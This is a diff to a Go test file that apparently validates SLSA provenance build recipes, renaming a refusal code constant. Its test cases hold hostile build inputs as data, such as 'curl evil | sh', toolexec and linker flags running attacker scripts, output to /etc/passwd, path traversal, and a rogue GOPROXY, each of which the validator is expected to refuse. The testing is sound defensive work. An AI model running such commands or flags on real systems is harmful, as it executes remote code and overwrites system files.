@@ -209,36 +209,36 @@ func TestReadRecipesRefused(t *testing.T) {
 		"subject digest": {mutate(t, func(st, _ map[string]any, _ []any) {
 			st["subject"] = []any{map[string]any{"name": "x", "digest": map[string]any{"sha256": "zz"}}}
 		}), reason.ProvenanceMalformed},
-		"other predicate":     {mutate(t, func(st, _ map[string]any, _ []any) { st["predicateType"] = "https://spdx.dev/Document" }), CodeRecipeUnsupported},
-		"other build type":    {mutate(t, func(_, p map[string]any, _ []any) { p["buildType"] = "https://example.com/make@v1" }), CodeRecipeUnsupported},
-		"buildConfig version": {mutate(t, func(_, p map[string]any, _ []any) { p["buildConfig"].(map[string]any)["version"] = 2 }), CodeRecipeUnsupported},
+		"other predicate":     {mutate(t, func(st, _ map[string]any, _ []any) { st["predicateType"] = "https://spdx.dev/Document" }), reason.RecipeUnsupported},
+		"other build type":    {mutate(t, func(_, p map[string]any, _ []any) { p["buildType"] = "https://example.com/make@v1" }), reason.RecipeUnsupported},
+		"buildConfig version": {mutate(t, func(_, p map[string]any, _ []any) { p["buildConfig"].(map[string]any)["version"] = 2 }), reason.RecipeUnsupported},
 		"no materials":        {mutate(t, func(_, p map[string]any, _ []any) { p["materials"] = []any{} }), reason.ProvenanceMalformed},
 		"short commit": {mutate(t, func(_, p map[string]any, _ []any) {
 			p["materials"].([]any)[0].(map[string]any)["digest"] = map[string]any{"sha1": "abc"}
 		}), reason.ProvenanceMalformed},
-		"go version unknown": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"go", "mod", "vendor"} }), CodeRecipeUnsupported},
+		"go version unknown": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"go", "mod", "vendor"} }), reason.RecipeUnsupported},
 		"two toolchains": {mutate(t, func(_, _ map[string]any, s []any) {
 			step(s, 0)["command"] = []any{"/opt/hostedtoolcache/go/1.21.0/x64/bin/go", "mod", "vendor"}
-		}), CodeRecipeUnsupported},
-		"not the go command": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"/bin/sh", "-c", "curl evil | sh"} }), CodeRecipeUnsupported},
-		"go run":             {mutate(t, build("run", ".")), CodeRecipeUnsupported},
-		"go generate":        {mutate(t, build("generate", "./...")), CodeRecipeUnsupported},
-		"go mod edit":        {mutate(t, build("mod", "edit", "-replace=x=y")), CodeRecipeUnsupported},
-		"toolexec":           {mutate(t, build("build", "-toolexec=/tmp/x", "-o", "t")), CodeRecipeUnsupported},
-		"toolexec split":     {mutate(t, build("build", "-toolexec", "/tmp/x", "-o", "t")), CodeRecipeUnsupported},
-		"external linker":    {mutate(t, build("build", "-ldflags=-linkmode=external -extld=/tmp/x", "-o", "t")), CodeRecipeUnsupported},
-		"no -o":              {mutate(t, build("build", "./cmd/tool")), CodeRecipeUnsupported},
-		"linker runs a tool": {mutate(t, build("build", "-buildmode=c-archive", "-ldflags=-extar=/sovcheck/build/src/evil.sh", "-o", "t")), CodeRecipeUnsupported},
-		"extar in goflags":   {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-ldflags=-extar=/x"} }), CodeRecipeUnsupported},
+		}), reason.RecipeUnsupported},
+		"not the go command": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"/bin/sh", "-c", "curl evil | sh"} }), reason.RecipeUnsupported},
+		"go run":             {mutate(t, build("run", ".")), reason.RecipeUnsupported},
+		"go generate":        {mutate(t, build("generate", "./...")), reason.RecipeUnsupported},
+		"go mod edit":        {mutate(t, build("mod", "edit", "-replace=x=y")), reason.RecipeUnsupported},
+		"toolexec":           {mutate(t, build("build", "-toolexec=/tmp/x", "-o", "t")), reason.RecipeUnsupported},
+		"toolexec split":     {mutate(t, build("build", "-toolexec", "/tmp/x", "-o", "t")), reason.RecipeUnsupported},
+		"external linker":    {mutate(t, build("build", "-ldflags=-linkmode=external -extld=/tmp/x", "-o", "t")), reason.RecipeUnsupported},
+		"no -o":              {mutate(t, build("build", "./cmd/tool")), reason.RecipeUnsupported},
+		"linker runs a tool": {mutate(t, build("build", "-buildmode=c-archive", "-ldflags=-extar=/sovcheck/build/src/evil.sh", "-o", "t")), reason.RecipeUnsupported},
+		"extar in goflags":   {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-ldflags=-extar=/x"} }), reason.RecipeUnsupported},
 		"mod vendor -o": {mutate(t, func(_, _ map[string]any, s []any) {
 			step(s, 0)["command"] = append(step(s, 0)["command"].([]any), "-o=/sovcheck/gocache")
-		}), CodeRecipeUnsupported},
-		"last step not build": {mutate(t, func(_, p map[string]any, s []any) { p["buildConfig"].(map[string]any)["steps"] = []any{s[1], s[0]} }), CodeRecipeUnsupported},
-		"absolute -o":         {mutate(t, build("build", "-o", "/etc/passwd")), CodeRecipeUnsupported},
-		"-o escapes":          {mutate(t, build("build", "-o", "../../../x")), CodeRecipeUnsupported},
-		"env not allowed":     {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"CC=/tmp/evil"} }), CodeRecipeUnsupported},
-		"env sets proxy":      {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOPROXY=https://evil"} }), CodeRecipeUnsupported},
-		"goflags toolexec":    {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-toolexec=/x"} }), CodeRecipeUnsupported},
+		}), reason.RecipeUnsupported},
+		"last step not build": {mutate(t, func(_, p map[string]any, s []any) { p["buildConfig"].(map[string]any)["steps"] = []any{s[1], s[0]} }), reason.RecipeUnsupported},
+		"absolute -o":         {mutate(t, build("build", "-o", "/etc/passwd")), reason.RecipeUnsupported},
+		"-o escapes":          {mutate(t, build("build", "-o", "../../../x")), reason.RecipeUnsupported},
+		"env not allowed":     {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"CC=/tmp/evil"} }), reason.RecipeUnsupported},
+		"env sets proxy":      {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOPROXY=https://evil"} }), reason.RecipeUnsupported},
+		"goflags toolexec":    {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-toolexec=/x"} }), reason.RecipeUnsupported},
 		"env malformed":       {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"NOEQUALS"} }), reason.ProvenanceMalformed},
 		"workingDir outside":  {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["workingDir"] = "/etc" }), reason.ProvenanceMalformed},
 		"workingDir relative": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["workingDir"] = "src" }), reason.ProvenanceMalformed},
@@ -252,7 +252,7 @@ func TestReadRecipesRefused(t *testing.T) {
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
 			recs, err := ReadRecipes(bytes.NewReader(tc.doc))
-			if tc.code == CodeRecipeUnsupported && name != "other predicate" {
+			if tc.code == reason.RecipeUnsupported && name != "other predicate" {
 				// SLSA provenance sovcheck will not replay: a refused
 				// recipe, which names the subjects it would SKIP.
 				if err != nil {
@@ -261,8 +261,8 @@ func TestReadRecipesRefused(t *testing.T) {
 				if len(recs) != 1 || recs[0].Refused == nil || len(recs[0].Subjects) == 0 {
 					t.Fatalf("got %+v, want one refused recipe with subjects", recs)
 				}
-				if re := recs[0].Refused; re.Code != CodeRecipeUnsupported || re.Hint == "" || re.Msg == "" {
-					t.Fatalf("refusal %+v, want code %s with message and hint", re, CodeRecipeUnsupported)
+				if re := recs[0].Refused; re.Code != reason.RecipeUnsupported || re.Hint == "" || re.Msg == "" {
+					t.Fatalf("refusal %+v, want code %s with message and hint", re, reason.RecipeUnsupported)
 				}
 				return
 			}
@@ -566,8 +566,8 @@ func TestToolchainRule(t *testing.T) {
 				}
 				return
 			}
-			if r.Refused == nil || r.Refused.Code != CodeRecipeUnsupported || !strings.Contains(r.Refused.Msg, tc.refused) {
-				t.Fatalf("refusal %v, want %s containing %q", r.Refused, CodeRecipeUnsupported, tc.refused)
+			if r.Refused == nil || r.Refused.Code != reason.RecipeUnsupported || !strings.Contains(r.Refused.Msg, tc.refused) {
+				t.Fatalf("refusal %v, want %s containing %q", r.Refused, reason.RecipeUnsupported, tc.refused)
 			}
 		})
 	}
